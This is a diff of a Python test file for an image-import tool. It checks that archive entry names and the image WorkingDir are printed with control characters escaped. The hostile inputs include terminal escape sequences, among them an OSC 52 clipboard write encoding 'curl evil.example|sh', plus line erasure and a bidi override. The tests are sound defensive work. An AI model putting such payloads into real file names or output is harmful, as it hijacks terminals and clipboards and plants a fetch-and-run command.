@@ -4,6 +4,7 @@ and mkfs.erofs; the archive's paths and modes are attacks."""
 from __future__ import annotations
 
 import json
+import shutil
 import stat
 import subprocess
 import tarfile
@@ -155,7 +156,7 @@ def test_images_nothing_uses_are_collected_after_a_grace_time(tmp_path: Path) ->
     assert env.image == imported.path
     s.reset(folder)
     assert imported.path.is_file()
-    (task / "env.json").unlink()  # the task is deleted (piwork tasks rm)
+    shutil.rmtree(task)  # the task is deleted (piwork tasks rm)
     assert imported.id in s.gc()
     assert not imported.path.exists() and not meta.exists()
     # One just imported is kept whatever uses it (the import points the folder at it next).
@@ -223,7 +224,8 @@ def test_the_image_config_is_checked_as_untrusted_input() -> None:
     big = image_settings({"Env": [f"V{i}=" + "y" * (MAX_ENV_VALUE - 10) for i in range(40)]})
     assert sum(len(k) + len(v) for k, v in big.env) <= MAX_ENV_TOTAL
     assert any("in all" in n for n in big.notes)
-    for bad in ("relative/dir", "/a\nb", "/" + "d" * 5000, 7, ["/x"]):
+    controls = ("/work\x1b]52;c;Y3VybA==\x07\x1b[1A", "/w\x9bx", "/safe\u202etxt", "/a\u200bb")
+    for bad in ("relative/dir", "/a\nb", "/" + "d" * 5000, 7, ["/x"], *controls):
         odd = image_settings({"WorkingDir": bad})
         assert odd.workdir is None and odd.notes and "left out the WorkingDir" in odd.notes[0]
     assert image_settings({"Env": "PATH=/bin"}).notes == ("left out the image's Env: not a list",)
@@ -338,3 +340,38 @@ def test_a_layout_naming_a_blob_by_a_path_or_too_large_is_refused(tmp_path: Path
     (layout / "index.json").write_text("[" * 100_000)
     with pytest.raises(EnvError, match="not JSON"):
         read_config(layout)
+
+
+def test_env_import_prints_archive_names_and_its_workdir_inert(
+    tmp_path: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Review 2, finding 7, as written: a FIFO whose name clears the screen and writes the
+    clipboard (OSC 52), a set-uid file whose name erases the line above, and a WorkingDir
+    with the same; ``piwork env import`` printed them raw."""
+    from piwork.cli.main import main
+
+    monkeypatch.setenv("PIWORK_HOME", str(tmp_path / "home"))
+    osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
+    fifo = f"\x1b[2J\x1b[H\x1b]0;owned\x07{osc52}fifo"
+    suid = "usr\x1b[1A\x1b[2Ksuid"
+    archive = busybox_image(
+        tmp_path / "evil.tar",
+        b"m\n",
+        config={"Env": ["PATH=/bin"], "WorkingDir": f"/work{osc52}\x1b[1A\x1b[2K"},
+        extra=[
+            entry(fifo, kind=tarfile.FIFOTYPE),
+            entry(suid, b"#!/bin/sh\n", mode=0o4755),
+            entry("bidi\u202etxt.exe", kind=tarfile.FIFOTYPE),
+        ],
+    )
+    folder = tmp_path / "project"
+    folder.mkdir()
+    assert main(["env", "import", str(archive), str(folder)]) == 0
+    out, err = capfd.readouterr()
+    for stream in (out, err):
+        assert "\x1b" not in stream and "\x07" not in stream and "\x9b" not in stream
+        assert "\u202e" not in stream
+    assert "removed \\x1b[2J\\x1b[H" in err  # shown, escaped: the person sees it was there
+    assert "cleared the set-uid/set-gid bit of usr\\x1b[1A" in err
+    assert "left out the WorkingDir" in err
+    assert "WorkingDir (/)" in out or "WorkingDir" not in out
